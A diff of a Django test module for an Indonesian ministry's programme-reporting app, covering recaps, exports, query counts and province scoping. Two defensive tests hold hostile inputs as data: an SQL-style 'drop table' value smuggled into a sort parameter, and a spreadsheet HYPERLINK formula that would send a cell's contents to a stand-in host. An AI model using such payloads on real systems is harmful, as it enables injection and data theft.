@@ -16,6 +16,7 @@ from io import StringIO
 
 import openpyxl
 import pytest
+from django.contrib.auth import get_user_model
 from django.core.management import call_command
 from django.db import connection, transaction
 from django.test.utils import CaptureQueriesContext
@@ -54,10 +55,13 @@ from tests.factories import (
     make_participation,
     make_partner,
     make_realisation,
-    make_user,
 )
 
-pytestmark = pytest.mark.django_db
+pytestmark = [
+    pytest.mark.django_db,
+    # The demo data is built once per process that runs this module (about 15 s): in one worker, once.
+    pytest.mark.xdist_group("reports"),
+]
 
 YEAR = 2031  # a year the demo data leaves empty
 REGENCIES = {"51": "51.06", "63": "63.71", "72": "72.71"}
@@ -76,11 +80,17 @@ def demo(django_db_setup, django_db_blocker):
             outer.__exit__(None, None, None)
 
 
+# The demo data brings its own people, named as the cast's (README: Demo data): here they are the cast.
+
+
 @pytest.fixture
-def pusat(client):
-    user = make_user("pusat-uji", "pusat")
-    client.force_login(user)
-    return user
+def pusat(db):
+    return get_user_model().objects.get(username="pusat")
+
+
+@pytest.fixture
+def operator_b(db):
+    return get_user_model().objects.get(username="op-63")
 
 
 def _body(response):
@@ -122,22 +132,22 @@ def _recap(user, year=YEAR, **filters):
 # --- With the demo data ------------------------------------------------------------------------------------
 
 
-def test_the_2020_recap_has_the_34_provinces_of_2020_and_2023_has_38(client, pusat):
-    page = client.get(reverse("reports:national"), {"tahun": 2020})
+def test_the_2020_recap_has_the_34_provinces_of_2020_and_2023_has_38(pusat_client):
+    page = pusat_client.get(reverse("reports:national"), {"tahun": 2020})
     assert page.status_code == 200
     assert page.context["count"] == 34
     assert len(page.context["chart"]["rows"]) == 34
     html = page.content.decode()
     assert 'data-province="65"' in html  # Kalimantan Utara, a province since 2012
     assert 'data-province="93"' not in html  # Papua Selatan, since 2022
-    later = client.get(reverse("reports:national"), {"tahun": 2023})
+    later = pusat_client.get(reverse("reports:national"), {"tahun": 2023})
     assert later.context["count"] == 38
     assert 'data-province="93"' in later.content.decode()
 
 
-def test_the_real_2020_cases_are_on_the_recap_and_its_exports_carry_the_page_numbers(client, pusat):
+def test_the_real_2020_cases_are_on_the_recap_and_its_exports_carry_the_page_numbers(pusat_client):
     url = reverse("reports:national")
-    page = client.get(url, {"tahun": 2020})
+    page = pusat_client.get(url, {"tahun": 2020})
     rows = {r["code"]: r for r in page.context["chart"]["rows"]}
     # Kalimantan Selatan: masks on the task force's order of 100,000 pieces.
     assert rows["63"]["ordered_masker"] == 100_000
@@ -148,7 +158,7 @@ def test_the_real_2020_cases_are_on_the_recap_and_its_exports_carry_the_page_num
     html = page.content.decode()
     assert "100.000" in html and "3.000" in html
 
-    data = _json(client.get(url, {"tahun": 2020, "format": "json"}))
+    data = _json(pusat_client.get(url, {"tahun": 2020, "format": "json"}))
     assert data["year"] == 2020
     assert data["filters"] == {
         "year": 2020,
@@ -171,7 +181,7 @@ def test_the_real_2020_cases_are_on_the_recap_and_its_exports_carry_the_page_num
         expected = cell["value"]
         assert data["totals"][key] == (float(expected) if key == "absorption_pct" else expected), key
 
-    book = _xlsx(client.get(url, {"tahun": 2020, "format": "xlsx"}))
+    book = _xlsx(pusat_client.get(url, {"tahun": 2020, "format": "xlsx"}))
     sheet = book.worksheets[0]
     assert sheet.freeze_panes == "A2"
     xlsx_rows = _sheet_rows(sheet)
@@ -193,12 +203,12 @@ def test_the_real_2020_cases_are_on_the_recap_and_its_exports_carry_the_page_num
     assert money.number_format == RUPIAH_FORMAT and isinstance(money.value, int)
 
 
-def test_province_covid_and_quarterly_reports_show_the_real_cases(client, pusat):
-    kalsel = client.get(reverse("reports:province", args=["63"]), {"tahun": 2020})
+def test_province_covid_and_quarterly_reports_show_the_real_cases(pusat_client):
+    kalsel = pusat_client.get(reverse("reports:province", args=["63"]), {"tahun": 2020})
     assert kalsel.status_code == 200
     assert kalsel.context["row"]["ordered_masker"] == 100_000
     assert len(kalsel.context["months"]) == 12
-    covid = client.get(reverse("reports:covid"), {"tahun": 2020})
+    covid = pusat_client.get(reverse("reports:covid"), {"tahun": 2020})
     masks_sulteng = next(
         r
         for r in covid.context["report"].rows
@@ -211,10 +221,10 @@ def test_province_covid_and_quarterly_reports_show_the_real_cases(client, pusat)
         if r["province_code"] == "63" and r["product_type"] == "masker"
     )
     assert masks_kalsel["ordered"] == 100_000
-    quarter = client.get(_quarter_url("72", 3), {"tahun": 2020})
+    quarter = pusat_client.get(_quarter_url("72", 3), {"tahun": 2020})
     assert quarter.status_code == 200
     assert quarter.context["report"].summary["handed_over"] == 3_000
-    data = _json(client.get(_quarter_url("72", 3), {"tahun": 2020, "format": "json"}))
+    data = _json(pusat_client.get(_quarter_url("72", 3), {"tahun": 2020, "format": "json"}))
     assert data["quarter"] == 3 and data["province_code"] == "72"
     assert data["totals"]["handed_over"] == 3_000
 
@@ -459,14 +469,13 @@ FILTER_CHOICES = st.fixed_dictionaries(
 
 @settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
 @given(rng=st.randoms(use_true_random=False), chosen=FILTER_CHOICES)
-def test_every_recap_figure_equals_the_records_added_up_one_by_one(rng, chosen):
+def test_every_recap_figure_equals_the_records_added_up_one_by_one(pusat, rng, chosen):
     with transaction.atomic():
-        ministry = make_user("pusat-rekonsiliasi", "pusat")
         _build(rng)
         for filters in (reports.Filters(year=YEAR), reports.Filters(year=YEAR, **chosen)):
-            _check_recap(reports.national_recap(ministry, filters), filters)
-            _check_covid(reports.covid_report(ministry, filters), filters)
-        _check_activity_figures(ministry, YEAR)
+            _check_recap(reports.national_recap(pusat, filters), filters)
+            _check_covid(reports.covid_report(pusat, filters), filters)
+        _check_activity_figures(pusat, YEAR)
         transaction.set_rollback(True)
 
 
@@ -484,13 +493,15 @@ def test_a_firm_counts_once_per_province_and_once_nationally(pusat):
 
 
 @pytest.mark.parametrize("seed", [1, 2, 3])
-def test_a_province_report_and_its_quarters_add_up_to_the_recap_row(client, pusat, seed):
+def test_a_province_report_and_its_quarters_add_up_to_the_recap_row(pusat_client, pusat, seed):
     _build(random.Random(seed), scale=2)
     filters = reports.Filters(year=YEAR)
     recap = reports.national_recap(pusat, filters)
     for code in REGENCIES:
         row = next(r for r in recap.rows if r["province_code"] == code)
-        data = _json(client.get(reverse("reports:province", args=[code]), {"tahun": YEAR, "format": "json"}))
+        data = _json(
+            pusat_client.get(reverse("reports:province", args=[code]), {"tahun": YEAR, "format": "json"})
+        )
         summary = data["summary"]["rows"][0]
         assert summary["firms"] == row["firms"]
         assert data["totals"]["budget"] == row["activity_budget"]
@@ -503,18 +514,18 @@ def test_a_province_report_and_its_quarters_add_up_to_the_recap_row(client, pusa
         assert q4.summary["handed_over"] == sum(row[k] for k in reports.HANDED_OVER_KEYS.values())
 
 
-def test_sorting_follows_the_allow_list_and_ignores_anything_else(client, pusat):
+def test_sorting_follows_the_allow_list_and_ignores_anything_else(pusat_client):
     _build(random.Random(7))
     url = reverse("reports:national")
-    rows = _json(client.get(url, {"tahun": YEAR, "urut": "-realised", "format": "json"}))["rows"]
+    rows = _json(pusat_client.get(url, {"tahun": YEAR, "urut": "-realised", "format": "json"}))["rows"]
     realised = [r["realised"] for r in rows]
     assert realised == sorted(realised, reverse=True)
     names = [
         r["province"]
-        for r in _json(client.get(url, {"tahun": YEAR, "urut": "province", "format": "json"}))["rows"]
+        for r in _json(pusat_client.get(url, {"tahun": YEAR, "urut": "province", "format": "json"}))["rows"]
     ]
     assert names == sorted(names)
-    odd = client.get(url, {"tahun": YEAR, "urut": "province__name; drop table", "format": "json"})
+    odd = pusat_client.get(url, {"tahun": YEAR, "urut": "province__name; drop table", "format": "json"})
     assert [r["province_code"] for r in _json(odd)["rows"]] == sorted(r["province_code"] for r in rows)
 
 
@@ -561,7 +572,8 @@ LIST_URLS = {
 }
 
 
-def test_each_report_page_and_export_uses_a_fixed_number_of_queries_at_1x_and_10x(client, pusat):
+@pytest.mark.slow
+def test_each_report_page_and_export_uses_a_fixed_number_of_queries_at_1x_and_10x(pusat_client):
     rng = random.Random(11)
     _build(rng, scale=1)
     cases = []
@@ -574,13 +586,13 @@ def test_each_report_page_and_export_uses_a_fixed_number_of_queries_at_1x_and_10
             cases.append((kind, reverse(url), {"tahun": YEAR, "format": fmt}, 7 + 1 + (kind == "kegiatan")))
     small = {}
     for name, url, params, most in cases:
-        _count(client, url, params)  # warm caches (content types, sites)
-        small[name, url, tuple(params.items())] = n = _count(client, url, params)
+        _count(pusat_client, url, params)  # warm caches (content types, sites)
+        small[name, url, tuple(params.items())] = n = _count(pusat_client, url, params)
         assert n <= most, (name, params, n)
     _build(rng, scale=9)
     assert Activity.objects.filter(year=YEAR).count() >= 10
     for name, url, params, _most in cases:
-        assert _count(client, url, params) == small[name, url, tuple(params.items())], (name, params)
+        assert _count(pusat_client, url, params) == small[name, url, tuple(params.items())], (name, params)
 
 
 # --- Query counts: exactly which queries, for ministry staff ----------------------------------------------
@@ -741,10 +753,10 @@ def test_the_report_index_runs_9_queries_for_ministry_staff(client, pusat, djang
 @pytest.mark.parametrize("fmt", ["json", "csv", "xlsx"])
 @pytest.mark.parametrize("kind", LIST_URLS)
 def test_a_list_export_runs_7_queries_for_an_operator_the_activities_8(
-    client, kind, fmt, django_assert_num_queries
+    client, operator_b, kind, fmt, django_assert_num_queries
 ):
     _build(random.Random(11))
-    _operator_client(client, "63")
+    client.force_login(operator_b)
     # 1. the session
     # 2. the user (an operator has no second factor to look up)
     # 3. the user's groups (roles)
@@ -760,26 +772,20 @@ def test_a_list_export_runs_7_queries_for_an_operator_the_activities_8(
 # --- Scoping: an operator sees their own province only, everywhere ------------------------------------------
 
 
-def _operator_client(client, code):
-    client.force_login(make_user(f"op-uji-{code}", "operator", code))
-    return client
-
-
-def test_an_operator_sees_only_their_province_in_every_report_and_export(client):
+def test_an_operator_sees_only_their_province_in_every_report_and_export(operator_b_client):
     _build(random.Random(5), scale=2)
-    client = _operator_client(client, "63")
-    page = client.get(reverse("reports:national"), {"tahun": YEAR})
+    page = operator_b_client.get(reverse("reports:national"), {"tahun": YEAR})
     assert [r["code"] for r in page.context["chart"]["rows"]] == ["63"]
-    data = _json(client.get(reverse("reports:national"), {"tahun": YEAR, "format": "json"}))
+    data = _json(operator_b_client.get(reverse("reports:national"), {"tahun": YEAR, "format": "json"}))
     assert [r["province_code"] for r in data["rows"]] == ["63"]
     assert data["totals"]["firms"] == data["rows"][0]["firms"]
-    csv_rows = _csv(client.get(reverse("reports:national"), {"tahun": YEAR, "format": "csv"}))
+    csv_rows = _csv(operator_b_client.get(reverse("reports:national"), {"tahun": YEAR, "format": "csv"}))
     assert [r[0] for r in csv_rows[1:]] == ["63", "Total"]
-    book = _xlsx(client.get(reverse("reports:national"), {"tahun": YEAR, "format": "xlsx"}))
+    book = _xlsx(operator_b_client.get(reverse("reports:national"), {"tahun": YEAR, "format": "xlsx"}))
     assert [r["Kode provinsi"] for r in _sheet_rows(book.worksheets[0])] == ["63"]
-    covid = _json(client.get(reverse("reports:covid"), {"tahun": YEAR, "format": "json"}))
+    covid = _json(operator_b_client.get(reverse("reports:covid"), {"tahun": YEAR, "format": "json"}))
     assert {r["province_code"] for r in covid["rows"]} <= {"63"}
-    assert client.get(reverse("reports:province", args=["63"]), {"tahun": YEAR}).status_code == 200
+    assert operator_b_client.get(reverse("reports:province", args=["63"]), {"tahun": YEAR}).status_code == 200
     for code in ("72", "51"):
         urls = [
             reverse("reports:province", args=[code]),
@@ -788,16 +794,16 @@ def test_an_operator_sees_only_their_province_in_every_report_and_export(client)
         ]
         for url in urls:
             for fmt in ("", "json", "xlsx"):
-                response = client.get(url, {"tahun": YEAR, **({"format": fmt} if fmt else {})})
+                response = operator_b_client.get(url, {"tahun": YEAR, **({"format": fmt} if fmt else {})})
                 assert response.status_code == 404, (url, fmt)
     for kind, url in LIST_URLS.items():
-        rows = _json(client.get(reverse(url), {"format": "json"}))["rows"]
+        rows = _json(operator_b_client.get(reverse(url), {"format": "json"}))["rows"]
         assert rows and {r["province_code"] for r in rows} == {"63"}, kind
-    index = client.get(reverse("reports:index"))
+    index = operator_b_client.get(reverse("reports:index"))
     assert [p.code for p in index.context["provinces"]] == ["63"]
 
 
-def test_verified_only_leaves_out_what_is_not_verified(client, pusat):
+def test_verified_only_leaves_out_what_is_not_verified(pusat_client, pusat):
     allocation = make_allocation("51", YEAR, pagu=Decimal("1000000000"))
     make_realisation(allocation, 1, amount=Decimal("10000000"), review_status=ReviewStatus.VERIFIED)
     make_realisation(allocation, 2, amount=Decimal("20000000"), review_status=ReviewStatus.SUBMITTED)
@@ -807,9 +813,9 @@ def test_verified_only_leaves_out_what_is_not_verified(client, pusat):
         participation = make_participation(activity, make_firm("51"))
         make_handover(make_output(participation, quantity=masks), quantity=masks)
         make_participant(activity)
-    everything = _json(client.get(reverse("reports:national"), {"tahun": YEAR, "format": "json"}))
+    everything = _json(pusat_client.get(reverse("reports:national"), {"tahun": YEAR, "format": "json"}))
     only = _json(
-        client.get(
+        pusat_client.get(
             reverse("reports:national"), {"tahun": YEAR, "verifikasi": "terverifikasi", "format": "json"}
         )
     )
@@ -833,7 +839,7 @@ def test_verified_only_leaves_out_what_is_not_verified(client, pusat):
     assert bali_verified["pagu"] == bali["pagu"]  # the ceiling is the DIPA's either way
     covid = reports.covid_report(pusat, reports.Filters(year=YEAR, verified_only=True))
     assert covid.totals["produced"] == 100
-    province = client.get(
+    province = pusat_client.get(
         reverse("reports:province", args=["51"]), {"tahun": YEAR, "verifikasi": "terverifikasi"}
     )
     assert [m["realised"] for m in province.context["months"][:2]] == [Decimal("10000000"), None]
@@ -845,11 +851,11 @@ def test_verified_only_leaves_out_what_is_not_verified(client, pusat):
 # --- Exports: formula injection, streaming, the lists -------------------------------------------------------
 
 
-def test_text_that_a_spreadsheet_would_run_comes_out_as_text(client, pusat):
+def test_text_that_a_spreadsheet_would_run_comes_out_as_text(pusat_client):
     evil = '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")'
     make_firm("51", name=evil, owner_name="+62 812", address="@SUM(A1:A9)", workers=5)
     make_firm("51", name="-2+3", workers=3)
-    rows = _csv(client.get(reverse("programs:firm_list"), {"format": "csv"}))
+    rows = _csv(pusat_client.get(reverse("programs:firm_list"), {"format": "csv"}))
     header = rows[0]
     names = [r[header.index("Nama IKM")] for r in rows[1:-1]]
     assert "'" + evil in names and "'-2+3" in names
@@ -859,7 +865,7 @@ def test_text_that_a_spreadsheet_would_run_comes_out_as_text(client, pusat):
     assert owner[header.index("Alamat")] == "'@SUM(A1:A9)"
     assert owner[header.index("Tenaga kerja")] == "5"
 
-    sheet = _xlsx(client.get(reverse("programs:firm_list"), {"format": "xlsx"})).worksheets[0]
+    sheet = _xlsx(pusat_client.get(reverse("programs:firm_list"), {"format": "xlsx"})).worksheets[0]
     assert sheet.freeze_panes == "A2"
     cells = {r["Nama IKM"]: r for r in _sheet_rows(sheet)}
     assert "'" + evil in cells and "'-2+3" in cells
@@ -872,37 +878,37 @@ def test_text_that_a_spreadsheet_would_run_comes_out_as_text(client, pusat):
         last[0] == "Total"
         and last[list(sheet.iter_rows(max_row=1, values_only=True))[0].index("Tenaga kerja")] >= 8
     )
-    data = _json(client.get(reverse("programs:firm_list"), {"format": "json"}))
+    data = _json(pusat_client.get(reverse("programs:firm_list"), {"format": "json"}))
     assert evil in [r["name"] for r in data["rows"]]  # JSON carries the data as it is
 
 
-def test_every_list_exports_with_the_page_filters(client, pusat):
+def test_every_list_exports_with_the_page_filters(pusat_client):
     allocation = make_allocation("51", YEAR)
     make_activity(allocation, title="Bimtek masker", kind=ActivityKind.BIMTEK, budget=Decimal("100000000"))
     make_activity(
         allocation, title="Fasilitasi halal", kind=ActivityKind.FASILITASI, budget=Decimal("50000000")
     )
     url = reverse("programs:activity_list")
-    data = _json(client.get(url, {"tahun": YEAR, "jenis": "bimtek", "format": "json"}))
+    data = _json(pusat_client.get(url, {"tahun": YEAR, "jenis": "bimtek", "format": "json"}))
     assert [r["title"] for r in data["rows"]] == ["Bimtek masker"]
     assert data["filters"] == {"tahun": str(YEAR), "jenis": "bimtek"}
     assert data["totals"]["budget"] == 100_000_000
-    rows = _csv(client.get(url, {"tahun": YEAR, "format": "csv"}))
+    rows = _csv(pusat_client.get(url, {"tahun": YEAR, "format": "csv"}))
     assert rows[-1][0] == "Total" and rows[-1][rows[0].index("Anggaran kegiatan (Rp)")] == "150000000"
     sheet = _xlsx(
-        client.get(reverse("programs:allocation_list"), {"tahun": YEAR, "format": "xlsx"})
+        pusat_client.get(reverse("programs:allocation_list"), {"tahun": YEAR, "format": "xlsx"})
     ).worksheets[0]
     header = list(sheet.iter_rows(max_row=1, values_only=True))[0]
     pagu = list(sheet.iter_rows(min_row=2, max_row=2))[0][header.index("Pagu awal (Rp)")]
     assert pagu.value == 1_500_000_000 and pagu.number_format == RUPIAH_FORMAT
-    assert client.get(url, {"format": "pdf"}).status_code == 404
-    page = client.get(url).content.decode()
+    assert pusat_client.get(url, {"format": "pdf"}).status_code == 404
+    page = pusat_client.get(url).content.decode()
     assert "format=xlsx" in page and "format=csv" in page and "format=json" in page
 
 
-def test_exports_are_logged_with_who_and_what(client, pusat, caplog):
+def test_exports_are_logged_with_who_and_what(pusat_client, pusat, caplog):
     with caplog.at_level("INFO", logger="ikm_dekon.exports"):
-        _body(client.get(reverse("reports:province", args=["63"]), {"tahun": 2020, "format": "csv"}))
+        _body(pusat_client.get(reverse("reports:province", args=["63"]), {"tahun": 2020, "format": "csv"}))
     record = next(r for r in caplog.records if r.name == "ikm_dekon.exports")
     assert record.getMessage() == "export"
     assert record.user == pusat.username
@@ -910,8 +916,10 @@ def test_exports_are_logged_with_who_and_what(client, pusat, caplog):
     assert record.province == Province.objects.get(code="63").pk
 
 
-def test_the_province_export_has_its_activities_summary_and_months(client, pusat):
-    book = _xlsx(client.get(reverse("reports:province", args=["72"]), {"tahun": 2020, "format": "xlsx"}))
+def test_the_province_export_has_its_activities_summary_and_months(pusat_client):
+    book = _xlsx(
+        pusat_client.get(reverse("reports:province", args=["72"]), {"tahun": 2020, "format": "xlsx"})
+    )
     assert [s.title for s in book.worksheets] == ["Kegiatan", "Ringkasan", "Realisasi bulanan"]
     activities = _sheet_rows(book["Kegiatan"])
     assert sum(r["Diserahkan"] for r in activities) == 3_000
@@ -921,11 +929,10 @@ def test_the_province_export_has_its_activities_summary_and_months(client, pusat
 # --- The quarterly note -------------------------------------------------------------------------------------
 
 
-def test_the_operator_writes_the_quarterly_note_and_the_report_shows_it(client):
+def test_the_operator_writes_the_quarterly_note_and_the_report_shows_it(client, operator_b):
     allocation = make_allocation("63", YEAR)
     url = _quarter_url("63", 2, "quarterly_note") + f"?tahun={YEAR}"
-    operator = make_user("op-kalsel", "operator", "63")
-    client.force_login(operator)
+    client.force_login(operator_b)
     assert client.get(url).status_code == 200
     response = client.post(
         url,
@@ -947,19 +954,19 @@ def test_the_operator_writes_the_quarterly_note_and_the_report_shows_it(client):
     ]
 
 
-def test_ministry_staff_read_the_note_but_do_not_write_it(client, pusat):
+def test_ministry_staff_read_the_note_but_do_not_write_it(pusat_client):
     make_allocation("63", YEAR)
-    assert client.get(_quarter_url("63", 1), {"tahun": YEAR}).context["can_edit_note"] is False
-    assert client.get(_quarter_url("63", 1, "quarterly_note"), {"tahun": YEAR}).status_code == 403
-    assert client.get("/laporan/provinsi/63/triwulan/5/", {"tahun": YEAR}).status_code == 404
+    assert pusat_client.get(_quarter_url("63", 1), {"tahun": YEAR}).context["can_edit_note"] is False
+    assert pusat_client.get(_quarter_url("63", 1, "quarterly_note"), {"tahun": YEAR}).status_code == 403
+    assert pusat_client.get("/laporan/provinsi/63/triwulan/5/", {"tahun": YEAR}).status_code == 404
 
 
-def test_every_figure_of_the_recap_json_is_documented_in_the_readme(client, pusat):
+def test_every_figure_of_the_recap_json_is_documented_in_the_readme(pusat_client):
     from pathlib import Path
 
     readme = (Path(__file__).resolve().parents[1] / "README.md").read_text(encoding="utf-8")
     section = readme.split("## National recap JSON", 1)[1].split("\n## ", 1)[0]
-    data = _json(client.get(reverse("reports:national"), {"tahun": 2020, "format": "json"}))
+    data = _json(pusat_client.get(reverse("reports:national"), {"tahun": 2020, "format": "json"}))
     assert set(data) == {"year", "filters", "rows", "totals"}
     for key in [*data["rows"][0], *data["filters"]]:
         assert f"`{key}`" in section or key in data["filters"], key
